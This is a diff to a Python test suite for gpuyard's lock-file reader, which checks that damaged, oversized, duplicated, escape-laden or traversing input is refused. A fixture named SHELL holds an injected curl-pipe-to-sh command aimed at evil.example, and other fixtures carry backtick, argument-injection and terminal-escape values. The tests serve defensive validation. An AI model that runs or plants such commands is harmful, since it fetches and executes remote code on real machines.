@@ -1,15 +1,19 @@
 """.gpuyard.lock comes with commits that others write: it is evidence, and nothing is done because of it alone."""
 
 import json
+import re
+from contextlib import suppress
 from dataclasses import replace
 from pathlib import Path, PurePosixPath
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from gpuyard.commit.lock import LOCK, Lock, lock_of, lock_path, sha256
 from gpuyard.commit.lockfile import read_locks, write_locks
-from gpuyard.errors import GpuyardError
+from gpuyard.errors import InputError
 from gpuyard.pipeline import placements_of
 from gpuyard.resolve import Resolved
 from gpuyard.review.placed import Claim, Placed, Running
@@ -66,6 +70,7 @@ OLD: dict[str, Any] = {
 }
 SHELL = "x; curl https://evil.example/p|sh #"
 ESCAPE = "a\x1b]52;c;cm0=\x07\n::error::gone"
+NO_NUMBERS = ("NaN", "Infinity", "-Infinity")
 NOT_OURS = ["[]", "3", "null", "{}", '{"version": 1, "packages": []}', '{"format": "2"}', '{"format": true}']
 
 
@@ -81,9 +86,12 @@ def changed(good: dict[str, Any], path: str, value: object) -> str:
 
 
 def refusal(text: str, path: PurePosixPath = LOCK) -> str:
-    with pytest.raises(GpuyardError) as caught:
+    """Bad data, and at the lock."""
+    with pytest.raises(InputError) as caught:
         read_locks({path: text})
-    return str(caught.value)
+    (problem,) = caught.value.problems
+    assert problem.location.file == str(path)
+    return str(problem)
 
 
 def test_what_is_written_is_read(demo: Resolved, demo_tree: Tree) -> None:
@@ -135,6 +143,66 @@ def test_older_locks_are_read() -> None:
     assert read_locks({LOCK: first}) == replace(found, placements={})
 
 
+def test_all_damaged_locks_are_named_at_once() -> None:
+    with pytest.raises(InputError) as caught:
+        read_locks({LOCK: "", CHAT: "[]", PurePosixPath("workloads/docs.lock"): None})
+    assert [(each.location.file, each.message[:40]) for each in caught.value.problems] == [
+        (".gpuyard.lock", "damaged (not JSON: Expecting value); res"),
+        ("workloads/chat.lock", "not written by gpuyard (it has no format"),
+        ("workloads/docs.lock", "damaged (not a regular file, or larger t"),
+    ]
+
+
+def test_more_locks_than_anybody_has() -> None:
+    many = {PurePosixPath(f"workloads/a{number}.lock"): "" for number in range(5001)}
+    with pytest.raises(InputError, match="there are 5,001 locks, 5,000 at most"):
+        read_locks(many)
+
+
+VALUES = st.recursive(
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.text(max_size=20)
+    | st.sampled_from([SHELL, ESCAPE, DIGEST, "../x", "phx", "a..b", "1Gi"]),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
+    max_leaves=6,
+)
+
+
+@given(good=st.sampled_from([GOOD, GOOD_CHAT, OLD]), at=st.lists(st.integers(0, 9), max_size=5), value=VALUES)
+def test_whatever_stands_anywhere_it_is_read_or_refused(good: dict[str, Any], at: list[int], value: object) -> None:
+    """At every level; what is read has names that may stand in a command, and paths of generated files."""
+    data = json.loads(json.dumps(good))
+    inside, key = data, "files"
+    for number in at:
+        if not isinstance(inside, dict) or not inside:
+            break
+        key = sorted(inside)[number % len(inside)]
+        if isinstance(inside[key], dict):
+            inside = inside[key]
+    if isinstance(inside, dict):
+        inside[key] = value
+    path = CHAT if good is GOOD_CHAT else LOCK
+    try:
+        found = read_locks({path: json.dumps(data)})
+    except InputError as error:
+        assert all(each.location.file == str(path) and str(each).isprintable() for each in error.problems)
+        return
+    assert all(is_generated(str(each)) for each in found.files)
+    for cluster, placed in found.placements.items():
+        claims = [each.claim.storage_class for each in placed.values() if each.claim]
+        texts = [each for one in placed.values() for each in (one.shape, one.namespace, one.weights, *one.secrets)]
+        assert all(re.fullmatch(r"[a-z0-9][-a-z0-9.]*|", text) for text in [cluster, *placed, *claims, *texts])
+
+
+@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
+def test_any_bytes_are_read_or_refused(data: bytes) -> None:
+    with suppress(InputError):
+        read_locks({LOCK: data.decode("utf-8", "replace"), CHAT: data.decode("utf-8", "replace")})
+
+
 def test_a_lock_of_a_newer_gpuyard() -> None:
     assert refusal('{"format": 4}') == ".gpuyard.lock: written by a newer gpuyard (format 4); upgrade gpuyard"
     assert refusal('{"format": 4}', CHAT).startswith("workloads/chat.lock: written by a newer gpuyard (format 4)")
@@ -154,6 +222,12 @@ def test_a_lock_that_is_not_ours(text: str, path: PurePosixPath) -> None:
         ('{\n "format": 3,\n<<<<<<< HEAD\n', ":3:1: damaged (not JSON: "),
         ("[" * 200_000, ": damaged (more than any lock has)"),
         (f'{{"format": {"9" * 5000}}}', ": damaged (more than any lock has)"),
+        ('{"format": 3, "a": ' + '{"a": ' * 100_000 + "1" + "}" * 100_001, ": damaged (more than any lock has)"),
+        (" " * (8 << 20) + "{}", ": damaged (longer than any lock)"),
+        ('{"format": 3, "format": 3}', ": damaged ('format' stands there twice)"),
+        ('{"format": 3, "files": {"README.md": "", "README.md": ""}}', ": damaged ('README.md' stands there twice)"),
+        ('{"format": 3, "\\u001b[2J": 1, "\\u001b[2J": 1}', ": damaged ('\\x1b[2J' stands there twice)"),
+        *((f'{{"format": 3, "a": {word}}}', f": damaged ({word} is not a number)") for word in NO_NUMBERS),
     ],
 )
 def test_a_lock_that_is_not_json(text: str, start: str, path: PurePosixPath) -> None:
@@ -204,6 +278,23 @@ def test_a_lock_that_is_not_json(text: str, start: str, path: PurePosixPath) -> 
         (GOOD_CHAT, "placements>phx>weights", SHELL, f"weights cannot be '{SHELL}'"),
         (GOOD_CHAT, "placements>phx>secrets", "hf-token", "'secrets' is not a list"),
         (GOOD_CHAT, "placements>phx>secrets", ["`id`"], "a name cannot be '`id`'"),
+        (GOOD_CHAT, "placements>phx>secrets", ["a..b"], "a name cannot be 'a..b'"),
+        (GOOD_CHAT, "placements>phx>secrets", ["a.-b"], "a name cannot be 'a.-b'"),
+        (GOOD_CHAT, "placements>phx>secrets", ["--from-file=x"], "a name cannot be '--from-file=x'"),
+        (GOOD_CHAT, "placements>phx>secrets", ["a" * 254], "a name cannot be 'aaa"),
+        (GOOD_CHAT, "placements>phx>secrets", [["hf-token"]], "a name cannot be of type list"),
+        (GOOD_CHAT, "placements>phx>weights", "a..b", "weights cannot be 'a..b'"),
+        (GOOD_CHAT, "placements>phx>claim>storageClassName", "", "storageClassName cannot be ''"),
+        (GOOD_CHAT, "placements>phx>claim>size", "0Gi", "size cannot be '0Gi'"),
+        (GOOD_CHAT, "placements>phx>claim>size", "1e9Gi", "size cannot be '1e9Gi'"),
+        (GOOD_CHAT, "placements>phx>away", 1.5, "away cannot be of type float"),
+        (GOOD_CHAT, "placements>phx>away", 10**9, "away cannot be of type int"),
+        (
+            GOOD,
+            "files>clusters/phx/Sync.yaml",
+            DIGEST,
+            "'clusters/phx/Sync.yaml' and 'clusters/phx/sync.yaml' are one file where case makes no difference",
+        ),
         (GOOD_CHAT, "placements>phx>away", -1, "away cannot be of type int"),
         (GOOD_CHAT, "placements>phx>away", True, "away cannot be of type bool"),
     ],
@@ -241,6 +332,27 @@ PATHS = [
         "./base/x",
         "~/base/x",
     ),
+    *("base/.git/config", "base/chat/.GIT/hooks/x", "base/.gpuyard-b335630551682c19", "platform/.gitattributes"),
+    *(
+        "charts/.helmignore/..",
+        "base/chat.",
+        "base/chat./x",
+        "base/..hidden",
+        "Base/chat/x",
+        "BASE/x",
+        "base/" + "a/" * 600,
+    ),
+    *(
+        "base/\0",
+        "base/x\0y",
+        "stack.yaml\0",
+        "base/e\u0301",
+        "base/\u00e9",
+        "base/\uff0e\uff0e/x",
+        "base/\u200bx",
+        "base/x/",
+    ),
+    *("images.lock", ".gitignore", ".gitattributes", "models/own.yaml", ".github/CODEOWNERS", "workloads/.lock"),
     *("base/x\n", "base/\x1b[31m", "base/x y", "base/ä", "base\\x", "base/" + "a" * 256, "", "README.md\n"),
 ]
 
